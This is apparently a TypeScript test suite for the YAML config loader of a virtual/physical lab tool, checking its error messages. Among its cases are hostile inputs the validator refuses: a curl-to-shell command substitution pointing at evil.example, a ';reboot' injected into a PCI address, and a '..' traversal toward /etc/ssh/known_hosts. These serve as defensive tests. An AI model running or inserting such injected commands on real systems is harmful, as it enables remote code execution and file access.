import { expect } from 'chai';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { ConfigError, type ConfigProblem } from './ConfigError.js';
import { deleteLine, insertAfter, minimalLab, replaceLine } from '../../test/support/labFixture.js';
import { loadLab, parseLab } from './loadLab.js';

/** The ConfigError parseLab throws for `text`; fails the test if it does not throw one. */
function configErrorOf(text: string, file = 'lab.yaml'): ConfigError {
  try {
    parseLab(text, file);
  } catch (error) {
    if (error instanceof ConfigError) return error;
    throw error;
  }
  expect.fail('parseLab accepted a lab it should have refused');
}

/** Asserts the exact message lines and that each problem's data agrees with its line. */
function expectProblems(text: string, expected: readonly string[]): ConfigProblem[] {
  const error = configErrorOf(text);
  expect(error.code).to.equal('CONFIG_INVALID');
  expect(error.message.split('\n')).to.deep.equal(expected);
  expect(error.problems.map((p) => `${p.file}:${p.line}:${p.col} ${p.message}`)).to.deep.equal(expected);
  return [...error.problems];
}

describe('parseLab errors', () => {
  it('accepts the minimal lab the other cases start from', () => {
    expect(parseLab(minimalLab(), 'lab.yaml').hosts['host-a']?.nics[0]?.kind).to.equal('vf');
  });

  it('reports an unclosed flow mapping where it opened, and nothing after it', () => {
    expectProblems(minimalLab(replaceLine(12, '        vf: { pf: "0000:3b:00.0", numVfs: 2')), [
      'lab.yaml:12:13 YAML syntax error: the { opened here is never closed: end the mapping with } on this line, or on lines indented deeper than its key (the parser gave up at line 13:3)',
    ]);
  });

  it('reports an unclosed quote where it opened, not at the end of the file', () => {
    expectProblems(minimalLab(replaceLine(6, "    address: '10.0.0.11")), [
      "lab.yaml:6:14 YAML syntax error: the ' opened here is never closed (the value runs on to line 31:1); close it where the value ends",
    ]);
  });

  it('words a second YAML document for the user, not for a programmer', () => {
    expectProblems(minimalLab(insertAfter(30, '---\nlab: {}')), [
      "lab.yaml:31:1 YAML syntax error: a second YAML document starts here, and a lab file is one document; remove the '---' line and what follows, or move it to a file of its own",
    ]);
  });

  it('says an empty lab file is empty', () => {
    expectProblems('# nothing yet\n', ['lab.yaml:1:1 the lab file is empty; start from lab.yaml (the virtual lab) or labs/physical.example.yaml']);
  });

  it('tells how to write a boolean that YAML 1.2 reads as a string', () => {
    expectProblems(minimalLab(replaceLine(7, '    agent: yes')), [
      'lab.yaml:7:12 hosts.host-a.agent must be true or false, got "yes" (YAML 1.2 reads yes as a string; write true or false)',
    ]);
  });

  it('does not judge workDir against a lab kind that does not exist', () => {
    expectProblems(minimalLab(replaceLine(3, '  kind: real'), replaceLine(9, '    workDir: work')), [
      'lab.yaml:3:9 lab.kind must be one of virtual, nested, physical, got "real"',
    ]);
  });

  it('does not check pairs against hosts when hosts itself is missing', () => {
    const lines = minimalLab().split('\n');
    const withoutHosts = [...lines.slice(0, 3), ...lines.slice(18)].join('\n');
    expectProblems(withoutHosts, ['lab.yaml:1:1 hosts is required']);
  });

  it('reports a value of the wrong type with the expected range', () => {
    const [problem] = expectProblems(minimalLab(insertAfter(6, '    port: "22x"')), [
      'lab.yaml:7:11 hosts.host-a.port must be an integer 1-65535, got "22x"',
    ]);
    expect(problem).to.include({ file: 'lab.yaml', line: 7, col: 11, path: 'hosts.host-a.port' });
  });

  it('reports a number out of range', () => {
    expectProblems(minimalLab(replaceLine(29, '    memoryMiB: 8')), [
      'lab.yaml:29:16 guests.default.memoryMiB must be an integer 16-1048576, got 8',
    ]);
  });

  it('reports an enum value with the allowed ones', () => {
    expectProblems(minimalLab(replaceLine(3, '  kind: real')), [
      'lab.yaml:3:9 lab.kind must be one of virtual, nested, physical, got "real"',
    ]);
  });

  it('names an unknown key and suggests the closest known one', () => {
    expectProblems(minimalLab(replaceLine(14, '    adress: 10.0.0.12')), [
      'lab.yaml:13:3 hosts.host-b.address is required',
      'lab.yaml:14:5 hosts.host-b.adress is not a known key; did you mean "address"?',
    ]);
  });

  it('lists the known keys when no key is close', () => {
    expectProblems(minimalLab(insertAfter(30, '    colour: blue')), [
      'lab.yaml:31:5 guests.default.colour is not a known key; known keys: kernel, initrd, append, disk, memoryMiB, cpus, address, echoPort',
    ]);
  });

  it('reports a duplicate key with where the first one is', () => {
    expectProblems(minimalLab(insertAfter(9, '    workDir: /srv/hil')), [
      'lab.yaml:10:5 hosts.host-a.workDir is set twice (first at line 9:5); keep one of them',
    ]);
  });

  it('reports a missing required key on the mapping that lacks it', () => {
    expectProblems(minimalLab(deleteLine(17)), ['lab.yaml:13:3 hosts.host-b.workDir is required']);
  });

  it('requires virtualLab for a virtual lab', () => {
    expectProblems(minimalLab(replaceLine(3, '  kind: virtual')), [
      'lab.yaml:1:1 virtualLab is required when lab.kind is virtual',
    ]);
  });

  it('refuses a PCI address with a shell separator in it', () => {
    expectProblems(minimalLab(replaceLine(12, '        vf: { pf: "0000:3b:00.0;reboot", pfDriver: mlx5_core, numVfs: 2 }')), [
      'lab.yaml:12:19 hosts.host-a.nics[0].vf.pf must be a PCI address like 0000:3b:00.0 (lowercase hex), got "0000:3b:00.0;reboot"',
    ]);
  });

  it('refuses a command substitution in a path', () => {
    expectProblems(minimalLab(replaceLine(28, '    kernel: "$(curl evil.example | sh)"')), [
      'lab.yaml:28:13 guests.default.kernel must be a path of letters, digits and _ . / + @ % : , = - (no spaces, quotes or shell characters), got "$(curl evil.example | sh)"',
    ]);
  });

  it('calls a path a path when it is not even a string', () => {
    expectProblems(minimalLab(replaceLine(28, '    kernel: [vmlinuz]')), ['lab.yaml:28:13 guests.default.kernel must be a path, got a list']);
  });

  it('refuses a path that climbs out with ..', () => {
    expectProblems(minimalLab(replaceLine(8, '    knownHosts: keys/../../../etc/ssh/known_hosts')), [
      "lab.yaml:8:17 hosts.host-a.knownHosts must be a path without '..' segments, got \"keys/../../../etc/ssh/known_hosts\"",
    ]);
  });

  it('reports a pair that names a missing host, with a suggestion', () => {
    expectProblems(minimalLab(replaceLine(22, '    destination: host-c')), [
      'lab.yaml:22:18 pairs[0].destination must name a host in hosts (host-a, host-b), got "host-c"; did you mean "host-b"?',
    ]);
  });

  it('reports a pair whose source is its destination', () => {
    expectProblems(minimalLab(replaceLine(22, '    destination: host-a')), [
      'lab.yaml:22:18 pairs[0].destination must be another host than source, got "host-a" for both',
    ]);
  });

  it('reports a host whose qemu build is not defined', () => {
    expectProblems(minimalLab(insertAfter(9, '    qemu: qemu-11')), [
      'lab.yaml:10:11 hosts.host-a.qemu must name a build in qemu (default), got "qemu-11"',
    ]);
  });

  it('reports a defaulted qemu build that does not exist on the host', () => {
    expectProblems(minimalLab(replaceLine(24, '  distro:')), [
      'lab.yaml:5:3 hosts.host-a.qemu is not set, and qemu has no build named "default"; set it to one of distro',
      'lab.yaml:13:3 hosts.host-b.qemu is not set, and qemu has no build named "default"; set it to one of distro',
    ]);
  });

  it('refuses both agent and identityFile', () => {
    expectProblems(minimalLab(insertAfter(7, '    agent: true')), [
      'lab.yaml:8:12 hosts.host-a.agent cannot be true when identityFile is set; authenticate with one of them',
    ]);
  });

  it('refuses a host with no way to authenticate', () => {
    expectProblems(minimalLab(deleteLine(15)), [
      'lab.yaml:13:3 hosts.host-b needs identityFile or agent: true to authenticate',
    ]);
  });

  it('refuses a host whose key cannot be verified', () => {
    expectProblems(minimalLab(deleteLine(16)), [
      'lab.yaml:13:3 hosts.host-b needs knownHosts or hostKey to verify its host key (or trustOnFirstUse: true on a throwaway host)',
    ]);
  });

  it('refuses a relative workDir outside the virtual lab', () => {
    expectProblems(minimalLab(replaceLine(17, '    workDir: work')), [
      'lab.yaml:17:14 hosts.host-b.workDir must be an absolute path on the host in a physical lab, got "work"',
    ]);
  });

  it('requires exactly one kind of NIC', () => {
    expectProblems(minimalLab(insertAfter(12, '        mdev: { parent: mtty, type: mtty-2, uuid: 83b8f4f2-509f-382f-3c1e-e6bfe0fa1001 }')), [
      'lab.yaml:11:9 hosts.host-a.nics[0] must have exactly one of emulated, vf, mdev; it has vf and mdev',
    ]);
  });

  it('requires a kernel or a disk for a guest', () => {
    expectProblems(minimalLab(deleteLine(28)), ['lab.yaml:27:3 guests.default must have at least one of kernel, disk']);
  });

  it('refuses a VF index past the VFs created', () => {
    expectProblems(minimalLab(replaceLine(12, '        vf: { pf: "0000:3b:00.0", pfDriver: mlx5_core, numVfs: 2, vfIndex: 2 }')), [
      'lab.yaml:12:76 hosts.host-a.nics[0].vf.vfIndex must be below numVfs (2), got 2',
    ]);
  });

  it('refuses a badly named host key', () => {
    expectProblems(minimalLab(replaceLine(13, '  Host_B:'), replaceLine(22, '    destination: Host_B')), [
      "lab.yaml:13:3 hosts.Host_B is not a valid key; it must be a name of lowercase letters, digits and '-' (at most 31, not starting with '-')",
      "lab.yaml:22:18 pairs[0].destination must be a name of lowercase letters, digits and '-' (at most 31, not starting with '-'), got \"Host_B\"",
    ]);
  });

  it('reports an empty list where entries are needed, on its key', () => {
    expectProblems(minimalLab(replaceLine(19, 'pairs: []'), deleteLine(20), deleteLine(21), deleteLine(22)), [
      'lab.yaml:19:1 pairs must have at least 1 entry',
    ]);
  });

  it('reports an empty value as such', () => {
    expectProblems(minimalLab(replaceLine(29, '    memoryMiB:')), [
      'lab.yaml:29:15 guests.default.memoryMiB must be an integer 16-1048576, got an empty value',
    ]);
  });

  it('tells to quote a version that YAML reads as a number', () => {
    expectProblems(minimalLab(insertAfter(25, '    minVersion: 10.0')), [
      'lab.yaml:26:17 qemu.default.minVersion must be a quoted version like "10.0", got 10 (YAML reads this as a number; put it in quotes)',
    ]);
  });

  it('reports an alias without an anchor', () => {
    expectProblems(minimalLab(replaceLine(18, '    nics: *nics')), [
      'lab.yaml:18:11 YAML syntax error: alias *nics has no anchor &nics before it',
    ]);
  });

  it('refuses a jump host that is not in hosts, or is the host itself', () => {
    expectProblems(minimalLab(insertAfter(9, '    jump: bastoin'), insertAfter(17, '    jump: host-b')), [
      'lab.yaml:10:11 hosts.host-a.jump must name a host in hosts (host-a, host-b) or be user@address[:port], got "bastoin"',
      'lab.yaml:19:11 hosts.host-b.jump cannot be the host itself',
    ]);
  });

  it('refuses jump hosts that go round in a loop, once per loop', () => {
    expectProblems(minimalLab(insertAfter(9, '    jump: host-b'), insertAfter(17, '    jump: host-a')), [
      'lab.yaml:10:11 hosts.host-a.jump makes a loop: host-a -> host-b -> host-a',
    ]);
  });

  it('refuses two NICs of a host with one name, and two pairs with one name', () => {
    expectProblems(minimalLab(replaceLine(18, '    nics:\n      - name: nic0\n        mdev: { parent: mtty, type: mtty-2, uuid: 83b8f4f2-509f-382f-3c1e-e6bfe0fa1001 }\n      - name: nic0\n        emulated: { model: igb, tap: tap0, mac: "52:54:00:00:00:02" }'), insertAfter(22, '  - { name: p0, source: host-b, destination: host-a }')), [
      'lab.yaml:21:15 hosts.host-b.nics[1].name "nic0" is already the name of nics[0]',
      'lab.yaml:27:13 pairs[1].name "p0" is already the name of pairs[0]',
    ]);
  });

  it('refuses an initrd or a command line without a kernel', () => {
    expectProblems(minimalLab(replaceLine(28, '    disk: guest.qcow2\n    initrd: initrd.img')), [
      'lab.yaml:29:13 guests.default.initrd is only used with kernel; set kernel or remove it',
    ]);
  });

  it('refuses a YAML tag it does not know', () => {
    expectProblems(minimalLab(replaceLine(29, '    memoryMiB: !big 256')), [
      'lab.yaml:29:16 YAML problem: Unresolved tag: !big; remove the tag, lab files hold plain values',
    ]);
  });

  it('collects every problem of the file in one error, in file order', () => {
    const problems = expectProblems(
      minimalLab(replaceLine(3, '  kind: real'), insertAfter(6, '    port: 0'), replaceLine(22, '    destination: nowhere')),
      [
        'lab.yaml:3:9 lab.kind must be one of virtual, nested, physical, got "real"',
        'lab.yaml:7:11 hosts.host-a.port must be an integer 1-65535, got 0',
        'lab.yaml:23:18 pairs[0].destination must name a host in hosts (host-a, host-b), got "nowhere"',
      ],
    );
    expect(problems.map((p) => p.path)).to.deep.equal(['lab.kind', 'hosts.host-a.port', 'pairs[0].destination']);
  });

  it('names the file as it was given', () => {
    const error = configErrorOf(minimalLab(replaceLine(3, '  kind: real')), 'labs/rack12.yaml');
    expect(error.message).to.match(/^labs\/rack12\.yaml:3:9 /);
  });
});

describe('loadLab file errors', () => {
  let dir: string;
  beforeEach(() => {
    dir = mkdtempSync(path.join(tmpdir(), 'hil-config-'));
  });
  afterEach(() => {
    rmSync(dir, { recursive: true, force: true });
  });

  it('says a missing lab file does not exist and what to do', () => {
    const file = path.join(dir, 'nope.yaml');
    expect(() => loadLab(file))
      .to.throw(ConfigError)
      .that.satisfies((error: ConfigError) => {
        expect(error.code).to.equal('CONFIG_NOT_FOUND');
        expect(error.message).to.equal(
          `lab file ${file} does not exist. Run from the folder that holds lab.yaml, or give the path of a lab file (see labs/physical.example.yaml).`,
        );
        expect(error.data).to.deep.equal({ file, resolved: file });
        return true;
      });
  });

  it('shows a relative path as given and where it resolved to', () => {
    const relative = path.relative(process.cwd(), path.join(dir, 'nope.yaml'));
    expect(() => loadLab(relative)).to.throw(ConfigError, `lab file ${relative} (${path.join(dir, 'nope.yaml')}) does not exist`);
  });

  it('says a lab path that is a folder is a folder, and which file to give instead', () => {
    expect(() => loadLab(dir))
      .to.throw(ConfigError, `lab file ${dir} is a folder, not a file. Give the path of the lab file in it, e.g. ${path.join(dir, 'lab.yaml')}.`)
      .with.property('code', 'CONFIG_NOT_FOUND');
  });

  it('places the first byte that is not UTF-8 instead of reading it as U+FFFD', () => {
    const file = path.join(dir, 'latin1.yaml');
    writeFileSync(file, Buffer.from(minimalLab().replace('  name: t\n', '  name: caf\xe9\n'), 'latin1'));
    expect(() => loadLab(file))
      .to.throw(ConfigError, `${file}:2:12 the lab file is not UTF-8: byte 0xe9 here is not a UTF-8 character; save the file as UTF-8`)
      .with.property('code', 'CONFIG_INVALID');
  });
});
